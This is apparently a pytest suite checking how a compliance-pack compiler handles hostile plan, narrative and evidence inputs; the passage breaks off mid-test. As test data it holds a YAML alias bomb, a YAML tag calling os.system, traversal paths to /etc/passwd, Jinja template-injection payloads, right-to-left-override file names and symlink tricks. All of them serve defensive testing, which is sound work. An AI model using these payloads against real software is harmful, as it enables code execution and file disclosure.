"""docs/security.md's table of bad inputs, row by row: each bad plan or evidence input gets the behaviour the table gives.

Every row is here as a test. Rows about evidence and plans run `check`; rows about pack outputs
(T1, T2, T4, T6, F10, D10, PDF8-11, M6, I2) share one small `build` of the CQC and commissioner
packs, and F12/F13 run their own builds. A test that shows a product bug is marked
`xfail(strict=True)` with the bug in its reason. The contract checked for every run: exit code, a
one-line message naming the file (and line where there is one), no traceback, nothing echoed raw,
bounded time; for builds also the evidence folder unchanged and no staging folder left. Reads
outside the evidence folder and the plan files are checked by test_audit_hook.py on the same kinds
of fixture (and by test_the_pack_output_rows_read_and_write_only_where_allowed for the build rows).
"""
from __future__ import annotations

import contextlib
import json
import os
import re
import time
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner
from hostile import (NHS, RESIDENT, docx_bytes, docx_with, fake_redaction_pdf, flate_bomb_pdf,
                     incremental_update_pdf, jpeg_with_exif, lying_sizes_docx, mkfifo, one_page_pdf, pdf_bytes,
                     pdf_with_metadata, plan_text, png_bytes, raw_pdf, signed_pdf, tree_snapshot, write, xlsx_bytes,
                     xlsx_with, zeros_member_zip)

from compiler.cli import cli
from evidence_store import Limits, scan

AS_OF = "2026-11-20"
SERIES = "period,value\n2026-01,5\n2026-02,4\n2026-03,3\n2026-04,2\n"


# ---------------------------------------------------------------------------------------------- harness

class Run:
    def __init__(self, code: int, output: str, seconds: float):
        self.code, self.output, self.seconds = code, output, seconds
        self.data = json.loads(output) if output.lstrip().startswith("{") else None

    def findings(self, rule: str | None = None) -> list[dict]:
        return [f for f in (self.data or {}).get("findings", []) if rule is None or f["rule"] == rule]

    def about(self, path: str, rule: str = "SG304") -> dict:
        """The one finding of `rule` about the evidence file `path`."""
        hits = [f for f in self.findings(rule) if f"({path})" in f["message"] or (f["file"] or "").endswith(path)]
        assert len(hits) == 1, (path, rule, [f["message"] for f in self.findings()])
        return hits[0]


def check(plan: Path | str, evidence: Path, *args: str) -> Run:
    started = time.monotonic()
    result = CliRunner().invoke(cli, ["check", str(plan), "--evidence", str(evidence), "--as-of", AS_OF,
                                      "--format", "json", "--fail-on", "never", *args])
    run = Run(result.exit_code, result.output, time.monotonic() - started)
    # C1: no traceback, no exception escaping click, bounded time
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert run.seconds < 90
    return run


@pytest.fixture
def case(tmp_path):
    """(plan file, evidence folder) with a valid plan and its indicator series."""
    evidence = tmp_path / "evidence"
    write(evidence / "indicators" / "ri.csv", SERIES)
    plan = write(tmp_path / "plans" / "plan.yaml", plan_text())
    return plan, evidence


def plan_error(tmp_path, text: str | bytes, evidence: Path | None = None) -> str:
    """The one-line error for a bad plan: exit 2, `plans/plan.yaml:LINE: ...`."""
    plan = write(tmp_path / "plans" / "plan.yaml", text)
    evidence = evidence or (tmp_path / "evidence")
    evidence.mkdir(exist_ok=True)
    run = check(plan, evidence)
    assert run.code == 2, run.output
    lines = [line for line in run.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and str(plan) in lines[0], run.output
    return lines[0]


def unreadable(case, name: str, data: bytes | str, *, rule: str = "SG304") -> str:
    """Put one bad evidence file in the folder; check names it (SG304) with a reason; return the message."""
    plan, evidence = case
    write(evidence / name, data)
    run = check(plan, evidence)
    assert run.code == 0
    finding = run.about(name, rule)
    assert finding["severity"] == "error"
    return finding["message"]


def item(folder: Path, path: str, **limits):
    found = [i for i in scan(folder, ["RP-01"], limits=Limits(**limits) if limits else None).items if i.path == path]
    assert len(found) == 1, [i.path for i in scan(folder).items]
    return found[0]


class Built:
    """One `sgpack build`: exit code, what it printed, the pack folder."""

    def __init__(self, code: int, output: str, out: Path, seconds: float):
        self.code, self.output, self.out, self.seconds = code, output, out, seconds

    def files(self) -> dict[str, bytes]:
        return {p.relative_to(self.out).as_posix(): p.read_bytes() for p in sorted(self.out.rglob("*")) if p.is_file()}


def build(plans: Path, evidence: Path, out: Path, *args: str, pack: str = "cqc") -> Built:
    """`sgpack build` in process, with the contract every build keeps whatever happens: no traceback,
    bounded time, the evidence folder unchanged, no staging folder left beside --out."""
    before = tree_snapshot(evidence) if evidence.is_dir() else None
    keys = out.parent / f".keys-{out.name}"            # pseudonym keys: never inside the pack or the evidence
    started = time.monotonic()
    result = CliRunner().invoke(cli, ["build", str(plans), "--evidence", str(evidence), "--pack", pack,
                                      "--as-of", AS_OF, "--out", str(out), *args],
                                env={"SGPACK_KEY_DIR": os.environ.get("SGPACK_KEY_DIR", str(keys))})
    built = Built(result.exit_code, result.output, out, time.monotonic() - started)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert built.seconds < 120
    if before is not None:
        assert tree_snapshot(evidence) == before, "the build changed the evidence folder"
    assert not list(out.parent.glob(f".{out.name}.sgpack-*")), "a staging folder was left beside --out"
    return built


def docx_text(path: Path) -> str:
    """The text of every paragraph of a .docx (parsed strictly, so broken XML fails here), one per line."""
    import zipfile

    from lxml import etree

    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    with zipfile.ZipFile(path) as archive:
        root = etree.fromstring(archive.read("word/document.xml"))
    return "\n".join("".join(t.text or "" for t in p.iter(f"{w}t")) for p in root.iter(f"{w}p"))


def pdf_text(path: Path) -> str:
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(path))
    try:
        return "\n".join(doc[i].get_textpage().get_text_range().replace("\r\n", "\n") for i in range(len(doc)))
    finally:
        doc.close()


def pdf_everything(path: Path) -> bytes:
    """Every byte a reader of the PDF could reach: the file, and every object with its stream decoded."""
    from pypdf import PdfReader
    from pypdf.generic import StreamObject

    reader = PdfReader(path)
    parts = [path.read_bytes()]
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(number)
        except Exception:  # noqa: BLE001 - a free entry
            continue
        if obj is None:
            continue
        parts.append(repr(obj).encode("utf-8", "replace"))
        if isinstance(obj, StreamObject):
            with contextlib.suppress(Exception):  # noqa: BLE001 - an image filter pypdf cannot decode: its raw bytes are in the file
                parts.append(obj.get_data())
    return b"\n".join(parts)


# The pack-output rows share one small build: a plan whose action title and narrative carry the
# narrative payloads (T1, T2, T4, T6) and one evidence file per output row (D10, PDF8-11, M6, I2),
# each titled with a name Windows refuses (F10). Built once as the CQC pack (which carries the
# exhibits) and once as the commissioner pack (which leaves the provider).

T_TITLE = ("Managers review logs {{ config }} {{ ''.__class__.__mro__ }} {% for i in range(10**9) %}x{% endfor %} "
           "5 < 6 & \"q\" ]]> <w:p/> {_{ x }_} {_% y %_} \u202eevil\u202c zero\u200bwidth")
T_NARRATIVE = ("Reviews {{ config }} {% for i in range(10**9) %}x{% endfor %} then 5 < 6 & \"q\" ]]> <w:p/> "
               "done \u202eevil\u202c zero\u200bwidth")
OLD_REVISION = "RP-01 OLD-REVISION-SECRET"
NHS_ANYHOW = re.compile(r"\D{0,2}".join(NHS.split()))                     # 943 476 5919 in any spacing
EXHIBITS = {   # file -> (bytes, title given in evidence.yaml)
    "supervision/2026-03-01 d10.docx": (lambda: docx_bytes(["RP-01 supervision record"], author=RESIDENT), "CON"),
    "supervision/2026-03-02 pdf8.pdf": (pdf_with_metadata, "aux.pdf"),
    "supervision/2026-03-03 pdf9.pdf": (fake_redaction_pdf, "a:b?"),
    "supervision/2026-03-04 pdf10.pdf": (lambda: incremental_update_pdf(OLD_REVISION, "RP-01 current revision"),
                                         "trailing."),
    "supervision/2026-03-05 pdf11.pdf": (signed_pdf, "NUL"),
    "supervision/2026-03-06 m6.md": (lambda: f"# RP-01 supervision\n\n<!-- resident NHS {NHS} -->\nSeen weekly.\n",
                                     "invoice\u202efdp.exe"),
    "supervision/2026-03-07 i2.jpg": (jpeg_with_exif, "COM1 "),
}


class HostileBuild:
    def __init__(self, root: Path, *, build_packs: bool = True):
        self.evidence, self.plans = root / "evidence", root / "plans"
        write(self.evidence / "indicators" / "ri.csv", SERIES)
        index = {}
        for path, (data, title) in EXHIBITS.items():
            write(self.evidence / path, data())
            index[path] = {"type": "supervision", "title": title, "actions": ["RP-01"]}
        write(self.evidence / "evidence.yaml",
              "".join(f"{json.dumps(k)}: {json.dumps(v)}\n" for k, v in index.items()))
        text = plan_text().replace("title: Managers review restrictive practice logs weekly",
                                   f"title: {json.dumps(T_TITLE)}")
        text = text.replace("narrative: Weekly reviews started 3 March.", f"narrative: {json.dumps(T_NARRATIVE)}")
        # under a contract, so the commissioner pack (which holds only contracted plans) has it to leave with
        text = text.replace("  risk: medium\n", "  risk: medium\n  contract: LA-DOM-2026-01\n", 1)
        write(self.plans / "plan.yaml", text)
        if not build_packs:
            return
        self.cqc = build(self.plans, self.evidence, root / "packs" / "cqc")
        assert self.cqc.code == 0, self.cqc.output
        self.commissioner = build(self.plans, self.evidence, root / "packs" / "commissioner", pack="commissioner")
        assert self.commissioner.code == 0, self.commissioner.output

    def exhibit(self, path: str) -> dict:
        """The manifest's line for the original copy of evidence file `path`, and the index row."""
        manifest = json.loads((self.cqc.out / "manifest.json").read_text())
        sha = next(i["sha256"] for i in manifest["inputs"] if i["path"] == path)
        (copy,) = [o for o in manifest["outputs"] if o["path"].startswith("exhibits/") and o["sha256"] == sha]
        return copy


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> HostileBuild:
    return HostileBuild(tmp_path_factory.mktemp("hostile-build"))


def test_the_pack_output_rows_read_and_write_only_where_allowed(tmp_path):
    """The same inputs built under test_audit_hook.py's audit hook (main process and reader children):
    no read outside the evidence folder, the plan files and the libraries, no write outside --out's
    staging, no socket."""
    from test_audit_hook import LIBRARY_READS, _matplotlib_cache, assert_clean, build_args, run_audited

    inputs = HostileBuild(tmp_path / "inputs", build_packs=False)
    out_parent = tmp_path / "packs"
    out_parent.mkdir()
    run, logs = run_audited(tmp_path, build_args(inputs.plans, inputs.evidence, out_parent / "cqc"))
    assert_clean(run, logs, [inputs.plans, inputs.evidence, *LIBRARY_READS], [],
                 writable=[out_parent, *_matplotlib_cache()])
    assert (out_parent / "cqc" / "manifest.json").is_file()


# ---------------------------------------------------------------------------------------------- P: plans

def test_P1_billion_laughs_aliases(tmp_path):
    bomb = "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n" + "".join(
        f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    assert plan_error(tmp_path, bomb).endswith("plan.yaml:1: aliases and anchors are not allowed")


def test_P2_python_object_tag(tmp_path):
    text = plan_text().replace("provider: Example Care Ltd", "provider: !!python/object/apply:os.system ['id']")
    assert plan_error(tmp_path, text).endswith("plan.yaml:2: YAML tags are not allowed (!!python/object/apply:os.system)")


def test_P3_duplicate_action_ids_and_duplicate_keys(tmp_path):
    text = plan_text() + "".join(line + "\n" for line in plan_text().split("actions:\n")[1].splitlines())
    assert "duplicate action id 'RP-01' (first defined at" in plan_error(tmp_path, text)
    text = plan_text().replace("  title: Restrictive practice at Oakview\n",
                               "  title: Restrictive practice at Oakview\n  title: twice\n")
    assert plan_error(tmp_path, text).endswith(
        "plan.yaml:6: plan.title: duplicate key 'title': first at line 5, again at line 6")


@pytest.mark.parametrize("due, message", [
    ("2026-02-30", "2026-02-30 is not a valid date"), ("2026-13-01", "2026-13-01 is not a valid date"),
    ("30/02/2026", "expected a date (YYYY-MM-DD), got '30/02/2026'")])
def test_P4_impossible_dates(tmp_path, due, message):
    line = plan_error(tmp_path, plan_text().replace("due: 2026-12-31", f"due: {due}"))
    assert line.endswith(f"plan.yaml:20: actions[0].due: {message}")


def test_P5_no_silent_coercion(tmp_path):
    line = plan_error(tmp_path, plan_text().replace("risk: medium", "risk: no"))
    assert line.endswith("plan.yaml:8: plan.risk: 'no' is not allowed; expected one of: low, medium, high")
    from compiler.plans import load_plans
    plan = write(tmp_path / "p2.yaml", plan_text().replace("id: RP-01", "id: 012"))
    assert load_plans([plan])[0].actions[0].id == "012"                     # kept as written, not 10


@pytest.mark.parametrize("data, why", [
    ("../../outside.csv", "is outside the evidence folder: paths may not use '..'"),
    ("../../../../../../etc/passwd", "is outside the evidence folder: paths may not use '..'"),
    ("/etc/passwd", "is outside the evidence folder: use a path relative to the folder, not an absolute path"),
    ("~/x.csv", "is outside the evidence folder: use a path relative to the folder, not a home folder (~)"),
    ("C:\\\\x.csv", "is outside the evidence folder: use a path relative to the folder, not an absolute path"),
    ('"evid\\0.csv"', "contains a NUL character"),
])
def test_P6_plan_paths_outside_the_folder_never_match(tmp_path, data, why):
    """The plan's only paths are indicator `data:` files: SG307 says why, and nothing is opened
    (test_audit_hook.py runs the same plan under an audit hook)."""
    write(tmp_path / "outside.csv", SERIES)                                   # a real file it must not reach
    evidence = tmp_path / "evidence"
    write(evidence / "etc" / "passwd", SERIES)                               # "/etc/passwd" must not match this
    plan = write(tmp_path / "plans" / "plan.yaml", plan_text(data))
    run = check(plan, evidence)
    (finding,) = run.findings("SG307")
    assert finding["message"].startswith("SAP-2026-007: indicator ri: data file ")
    assert finding["message"].endswith(why)
    assert finding["file"] == str(plan) and finding["line"] == 11
    assert "\x00" not in run.output


def test_P7_dangling_evidence_id(case):
    plan, evidence = case
    write(plan, plan_text().replace("    indicators: [ri]\n", "    indicators: [ri]\n    evidence: [E099]\n"))
    (finding,) = check(plan, evidence).findings("SG305")
    assert "E099" in finding["message"] and finding["file"] == str(plan) and finding["line"]


def test_P8_orphans_and_the_same_file_twice(case):
    plan, evidence = case
    write(evidence / "misc" / "a.txt", "unrelated")
    write(evidence / "misc" / "b.txt", "unrelated")                        # same bytes, another name
    run = check(plan, evidence)
    assert {f["evidence"] for f in run.findings("SG306")} >= {"misc-a", "misc-b"}
    items = {i.path: i for i in scan(evidence).items}
    assert items["misc/a.txt"].sha256 == items["misc/b.txt"].sha256         # duplicates detectable by hash


def test_P9_depends_on_does_not_exist(tmp_path):
    text = plan_text().replace("    indicators: [ri]\n", "    indicators: [ri]\n    depends_on: [RP-01]\n")
    assert "actions[0].depends_on: unknown key 'depends_on'" in plan_error(tmp_path, text)


def test_P10_deep_nesting_and_huge_plan(tmp_path):
    assert plan_error(tmp_path, "[" * 5000 + "]" * 5000).endswith("plan.yaml:1: nested more than 50 levels deep")
    assert plan_error(tmp_path, "# x\n" * (2 * 2**20)).endswith("plan.yaml: the file is larger than 5 MB")


def test_P11_encodings(tmp_path, case):
    """UTF-8 with a BOM loads; UTF-16 and Latin-1 are refused with the line (UTF-16 with a BOM could be
    accepted too; the loader asks for UTF-8, which is the documented format: docs/plans.md)."""
    plan, evidence = case
    write(plan, b"\xef\xbb\xbf" + plan_text().encode())
    assert check(plan, evidence).code == 0
    assert plan_error(tmp_path, plan_text().encode("utf-16")).endswith(
        "plan.yaml:1: the file is not UTF-8 text; save it as UTF-8")
    latin = plan_text().replace("Oakview", "Oakvi\xe9w").encode("latin-1")
    assert plan_error(tmp_path, latin).endswith("plan.yaml:5: the file is not UTF-8 text; save it as UTF-8")


def test_P12_typo_key(tmp_path):
    text = plan_text().replace("    indicators: [ri]\n", "    indicators: [ri]\n    evidnce: [x]\n")
    assert plan_error(tmp_path, text).endswith(
        "plan.yaml:25: actions[0].evidnce: unknown key 'evidnce'; did you mean 'evidence'?")


# ---------------------------------------------------------------------------------------------- T: narrative

def test_T1_template_syntax_is_printed_literally(hostile_build):
    """Jinja in a title or narrative is text: printed as typed in the Word pack and the PDF bundle,
    never evaluated (the 10**9 loop would not finish inside the build's time bound)."""
    docx, pdf = docx_text(hostile_build.cqc.out / "cqc-pack.docx"), pdf_text(hostile_build.cqc.out / "cqc-pack.pdf")
    assert T_TITLE in docx and T_NARRATIVE in docx
    for payload in ("{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for i in range(10**9) %}x{% endfor %}"):
        assert payload in T_TITLE and payload in pdf.replace("\n", " "), payload
    assert "<Config" not in docx + pdf and "<class 'object'>" not in docx + pdf


def test_T2_xml_syntax_is_printed_exactly(hostile_build):
    """`5 < 6 & "q" ]]> <w:p/>`: document.xml still parses strictly (docx_text), the text is there exactly,
    escaped in the XML, and no paragraph was injected or lost."""
    import zipfile

    payload = '5 < 6 & "q" ]]> <w:p/>'
    pack = hostile_build.cqc.out
    docx = docx_text(pack / "cqc-pack.docx")
    assert docx.count(payload) >= 2                                  # the title and the narrative, whole
    with zipfile.ZipFile(pack / "cqc-pack.docx") as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    assert "5 &lt; 6 &amp;" in xml and "]]&gt; &lt;w:p/&gt;" in xml
    assert payload in pdf_text(pack / "cqc-pack.pdf").replace("\n", " ")


def test_T3_control_characters_in_a_narrative(tmp_path, case):
    """Raw control characters are refused by the YAML reader with the line; escaped ones load and
    check runs (replacing them in outputs is the writers' part: issue 5 build half)."""
    line = plan_error(tmp_path, plan_text().replace("Weekly reviews started 3 March.", "bad \x0b x"))
    assert line.endswith("plan.yaml:23: the character U+000B is not allowed in YAML")
    plan, evidence = case
    write(plan, plan_text().replace("narrative: Weekly reviews started 3 March.",
                                    'narrative: "bad \\x00 \\x0b \\x1b \\x0c end"'))
    run = check(plan, evidence)
    assert run.code == 0 and "\x1b" not in run.output


def test_T4_bidi_and_zero_width_text_is_kept_as_typed_and_kept_out_of_file_names(hostile_build):
    """Kept as typed in the Word pack (it is the user's text) and flagged escaped among its findings, and never in
    a file name the pack writes (evidence titled `invoice\\u202efdp.exe`)."""
    pack = hostile_build.cqc.out
    docx = docx_text(pack / "cqc-pack.docx")
    assert "\u202eevil\u202c zero\u200bwidth" in docx
    # and flagged where the pack lists its findings (SG105), the characters shown as codes
    flagged = "RP-01 narrative holds hidden characters (\\u202e right-to-left override"
    assert flagged in docx and flagged in pdf_text(pack / "cqc-pack.pdf").replace("\n", " ")
    names = [p.name for p in pack.rglob("*")]
    assert not [n for n in names if any(unicodedata.category(c) == "Cf" for c in n)], names
    assert any(n.endswith("invoicefdp.exe.md") for n in names), names


def test_T4_bidi_in_narratives_is_flagged(case):
    plan, evidence = case
    write(plan, plan_text().replace("narrative: Weekly reviews started 3 March.",
                                    'narrative: "Weekly \\u202eevil\\u202c reviews"'))
    run = check(plan, evidence)
    assert [f for f in run.findings() if f["file"] == str(plan) and f["line"] == 23 and "\\u202e" in f["message"]]
    assert [f["rule"] for f in run.findings() if f["line"] == 23] == ["SG105"] and "\u202e" not in run.output


@pytest.mark.parametrize("bad", ["RP\\u202e-01", "RP\\u200b-01"])
def test_T4_bidi_in_ids_is_refused(tmp_path, bad):
    line = plan_error(tmp_path, plan_text().replace("  - id: RP-01", f'  - id: "{bad}"'))
    assert "plan.yaml:16:" in line and "\u202e" not in line and "\u200b" not in line


def test_T5_huge_narrative(tmp_path):
    text = plan_text().replace("Weekly reviews started 3 March.", "x" * (6 * 2**20))
    assert plan_error(tmp_path, text).endswith("plan.yaml: the file is larger than 5 MB")


def test_T6_docxtpl_unescape_sequences_are_kept(hostile_build):
    """docxtpl turns `{_{` `}_}` `{_%` `%_}` in the rendered XML into Jinja delimiters; in a title (plain
    text) they must survive as typed. (A narrative is Markdown: `_..._` there is emphasis by design.)"""
    docx = docx_text(hostile_build.cqc.out / "cqc-pack.docx")
    assert "{_{ x }_} {_% y %_}" in docx
    assert "{_{ x }_} {_% y %_}" in pdf_text(hostile_build.cqc.out / "cqc-pack.pdf").replace("\n", " ")


# ---------------------------------------------------------------------------------------------- F: filesystem

def test_F1_symlink_to_a_file_outside(case, tmp_path):
    plan, evidence = case
    os.symlink(write(tmp_path / "sentinel.txt", "SENTINEL RP-01"), evidence / "leak.pdf")
    run = check(plan, evidence)
    assert run.about("leak.pdf")["message"].endswith("cannot be read: link points outside the evidence folder")
    assert "SENTINEL" not in run.output


def test_F2_directory_symlink_loop(case):
    plan, evidence = case
    os.symlink(".", evidence / "loop")
    os.symlink("..", evidence / "indicators" / "up")
    run = check(plan, evidence)
    items = {i.path: i for i in scan(evidence).items}
    assert (items["loop"].status, items["loop"].reason) == ("not_read", "link to a folder; links to folders are not followed")
    assert not [p for p in items if p.startswith(("loop/", "indicators/up/"))]
    assert run.code == 0


def test_F3_fifo_and_dev_zero(case):
    plan, evidence = case
    mkfifo(evidence / "minutes.pdf")
    os.symlink("/dev/zero", evidence / "zero.csv")
    run = check(plan, evidence)
    assert run.about("minutes.pdf")["message"].endswith("cannot be read: not a regular file (a device, pipe or socket)")
    assert run.about("zero.csv")["message"].endswith("cannot be read: link points outside the evidence folder")


def test_F4_file_swapped_between_check_and_read():
    """Covered where the swap can be made to order: test_paths.py::test_a_file_swapped_after_the_check_is_not_read
    and ::test_a_file_turned_into_a_link_after_the_check_is_not_followed (open once, O_NOFOLLOW, same inode)."""
    from test_paths import test_a_file_swapped_after_the_check_is_not_read  # noqa: F401 - the test lives there


def test_F5_hardlink_is_noted(case, tmp_path):
    plan, evidence = case
    outside = write(tmp_path / "outside.txt", "RP-01 shared")
    os.link(outside, evidence / "shared.txt")
    assert "the file has 2 hard links" in item(evidence, "shared.txt").provenance["notes"]


@pytest.mark.parametrize("name, shown", [("a\nb.pdf", "a\\x0ab.pdf"), ("a\rb.pdf", "a\\x0db.pdf")])
def test_F6_newline_in_a_file_name(case, name, shown):
    plan, evidence = case
    write(evidence / name, pdf_bytes(["x"]))
    run = check(plan, evidence)
    message = run.about(shown)["message"]
    assert message.endswith("cannot be read: file name contains control or invisible characters; rename the file")
    assert name not in run.output and "\r" not in run.output


def test_F7_non_utf8_file_name(case):
    plan, evidence = case
    os.close(os.open(os.path.join(os.fsencode(evidence), b"evid\xff.pdf"), os.O_CREAT | os.O_WRONLY))
    run = check(plan, evidence)
    assert run.about("evid\\xff.pdf")["message"].endswith("cannot be read: file name is not valid UTF-8; rename the file")


def test_F8_unicode_forms_and_case(case):
    plan, evidence = case
    nfd = unicodedata.normalize("NFD", "Zoë.txt")
    write(evidence / nfd, "RP-01")
    write(evidence / "evidence.yaml", "Zoë.txt: {type: supervision}\n")        # the index says it in NFC
    write(evidence / "Report.txt", "x")
    write(evidence / "report.txt", "x")
    items = {i.path: i for i in scan(evidence, ["RP-01"]).items}
    assert items["Zoë.txt"].type == "supervision"                                 # matched as NFC
    assert "differs only in case from Report.txt" in items["report.txt"].provenance["notes"]
    write(evidence / "Zoë.txt", "the same name in NFC")                            # now two files, one name
    zoe = [i for i in scan(evidence).items if i.path == "Zoë.txt"]
    assert sorted(i.status for i in zoe) == ["ok", "unreadable"]
    assert "same name written with different Unicode characters" in [i for i in zoe if i.reason][0].reason
    assert check(plan, evidence).code == 0


def test_F9_long_names_and_paths(case):
    plan, evidence = case
    write(evidence / ("a" * 251 + ".txt"), "RP-01")                           # 255 bytes: fine
    assert item(evidence, "a" * 251 + ".txt").status == "ok"
    fd = os.open(evidence, os.O_RDONLY)
    try:                                                                       # a path over 4096 bytes
        for _ in range(22):
            os.mkdir("d" * 200, dir_fd=fd)
            new = os.open("d" * 200, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
        os.close(os.open("deep.txt", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
    finally:
        os.close(fd)
    deep = [i for i in scan(evidence).items if i.path.startswith("ddd")]
    assert len(deep) == 1 and deep[0].status == "not_read" and "longer than 4096 bytes" in deep[0].reason
    assert check(plan, evidence).code == 0
    from evidence_store.paths import name_problem
    assert name_problem("é" * 200) == "file name is longer than 255 bytes; rename the file"   # cannot even be created


_WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}


def windows_problem(name: str) -> str | None:
    if name.split(".")[0].rstrip(" ").upper() in _WINDOWS_RESERVED:
        return "reserved device name"
    if set(name) & set('<>:"/\\|?*') or any(ord(c) < 32 for c in name):
        return "character Windows refuses"
    if name.endswith((".", " ")):
        return "ends with a dot or space"
    if len(name.encode("utf-8")) > 255:
        return "longer than 255 bytes"
    return None


def test_F10_output_names_are_safe_on_windows(hostile_build):
    """Evidence titled CON, aux.pdf, a:b?, trailing., NUL, `COM1 `: every file and folder a pack writes
    (and every path its manifest lists) has a name Windows accepts, and the titles still show."""
    for built in (hostile_build.cqc, hostile_build.commissioner):
        paths = [p.relative_to(built.out).as_posix() for p in built.out.rglob("*")]
        paths += [o["path"] for o in json.loads((built.out / "manifest.json").read_text())["outputs"]]
        bad = {part: windows_problem(part) for path in paths for part in path.split("/") if windows_problem(part)}
        assert not bad, bad
        assert max(len(p.encode()) for p in paths) < 200
    names = sorted(p.name for p in (hostile_build.cqc.out / "exhibits").iterdir())
    assert any(" CON.docx" in n for n in names) and any(" a b.pdf" in n for n in names), names


def test_F11_right_to_left_override(case):
    plan, evidence = case
    write(evidence / "invoice\u202efdp.exe", "x")
    run = check(plan, evidence)
    assert run.about("invoice\\u202efdp.exe")["message"].endswith(
        "cannot be read: file name contains control or invisible characters; rename the file")
    assert "\u202e" not in run.output


def _f12_case(tmp_path, where: str) -> tuple[Path, Path, Path]:
    """(plans, evidence, out) with --out inside the evidence folder, equal to it, or holding it."""
    plans = write(tmp_path / "plans" / "plan.yaml", plan_text()).parent
    evidence = {"out-inside-evidence": tmp_path / "evidence", "out-is-evidence": tmp_path / "evidence",
                "evidence-inside-out": tmp_path / "packs" / "evidence"}[where]
    write(evidence / "indicators" / "ri.csv", SERIES)
    write(evidence / "supervision" / "2026-03-01 RP-01.txt", "RP-01 supervision")
    out = {"out-inside-evidence": evidence / "pack", "out-is-evidence": evidence,
           "evidence-inside-out": tmp_path / "packs"}[where]
    return plans, evidence, out


@pytest.mark.parametrize("where", ["out-inside-evidence", "out-is-evidence", "evidence-inside-out"])
def test_F12_out_and_evidence_overlapping_is_refused_before_any_work(tmp_path, where):
    plans, evidence, out = _f12_case(tmp_path, where)
    before = tree_snapshot(evidence)
    result = CliRunner().invoke(cli, ["build", str(plans), "--evidence", str(evidence), "--pack", "cqc",
                                      "--as-of", AS_OF, "--out", str(out)])
    assert evidence.is_dir() and tree_snapshot(evidence) == before, "the evidence folder was changed or deleted"
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert result.output.startswith("error: ") and "evidence" in result.output
    assert not [p for p in tmp_path.rglob("*") if "sgpack-" in p.name or p.name == "manifest.json"]


@pytest.fixture
def small_build(tmp_path):
    """(plans, evidence, out) for a fast build, with a previous pack already at out."""
    plans = write(tmp_path / "plans" / "plan.yaml", plan_text()).parent
    evidence = tmp_path / "evidence"
    write(evidence / "indicators" / "ri.csv", SERIES)
    write(evidence / "supervision" / "2026-03-01 RP-01.txt", "RP-01 supervision")
    write(evidence / "supervision" / "2026-03-08 RP-01.md", "# RP-01 supervision\n")
    out = tmp_path / "packs" / "cqc"
    first = build(plans, evidence, out, "--formats", "pdf")
    assert first.code == 0, first.output
    return plans, evidence, out


def test_F13_existing_pack_is_replaced_whole(small_build):
    """A pack already at --out is swapped whole: nothing of the old one is left mixed in, and it verifies."""
    plans, evidence, out = small_build
    old = Built(0, "", out, 0).files()
    assert "cqc-pack.pdf" in old and "cqc-pack.docx" not in old
    (evidence / "supervision" / "2026-03-08 RP-01.md").unlink()
    again = build(plans, evidence, out, "--formats", "docx")
    assert again.code == 0, again.output
    new = again.files()
    assert "cqc-pack.pdf" not in new and "cqc-pack.docx" in new
    assert not [p for p in new if p.endswith("RP-01 supervision.md")]
    assert CliRunner().invoke(cli, ["verify", str(out)]).exit_code == 0


def test_F13_a_folder_that_is_not_a_pack_is_never_replaced(small_build, tmp_path):
    plans, evidence, _ = small_build
    documents = tmp_path / "Documents"
    write(documents / "thesis.txt", "years of work")
    result = build(plans, evidence, documents, "--formats", "pdf")
    assert (documents / "thesis.txt").read_text() == "years of work"
    assert result.code != 0 and str(documents) in result.output


@pytest.mark.parametrize("failure", ["ENOSPC-writing", "EROFS-renaming", "EACCES-writing"])
def test_F13_disk_full_or_read_only_out_keeps_the_previous_pack(small_build, monkeypatch, failure):
    """The write fails part-way (disk full, read-only file system, permission): a one-line error with the
    errno text naming the file, no traceback, the previous pack byte-for-byte, no staging folder left."""
    import errno

    from compiler.packs import output

    plans, evidence, out = small_build
    before = Built(0, "", out, 0).files()
    code = {"ENOSPC": errno.ENOSPC, "EROFS": errno.EROFS, "EACCES": errno.EACCES}[failure.split("-")[0]]
    if failure.endswith("writing"):
        real, calls = output.write_file, []

        def write_file(stage, relative, data):
            calls.append(relative)
            if len(calls) == 2:                                   # the second file: a partial stage exists
                raise OSError(code, os.strerror(code), str(stage / relative))
            return real(stage, relative, data)

        monkeypatch.setattr(output, "write_file", write_file)
    else:
        real_rename = os.rename

        def rename(src, dst, *a, **k):
            if ".sgpack-tmp-" in os.fspath(src):
                raise OSError(code, os.strerror(code), os.fspath(dst))
            return real_rename(src, dst, *a, **k)

        monkeypatch.setattr(output.os, "rename", rename)
    result = build(plans, evidence, out, "--formats", "pdf")
    assert result.code != 0
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and os.strerror(code) in lines[0], result.output
    assert "nothing was written" in lines[0] and str(out.parent) in lines[0]
    assert Built(0, "", out, 0).files() == before


def test_F13_sigkill_mid_build_keeps_the_previous_pack(small_build):
    """SIGKILL while staging: the previous pack is untouched; the next build clears the dead build's staging."""
    import signal
    import subprocess
    import sys

    plans, evidence, out = small_build
    before = Built(0, "", out, 0).files()
    root = Path(__file__).resolve().parents[2]
    args = [sys.executable, "-m", "compiler.cli", "build", str(plans), "--evidence", str(evidence), "--pack", "cqc",
            "--as-of", AS_OF, "--out", str(out), "--no-cache"]
    proc = subprocess.Popen(args, cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
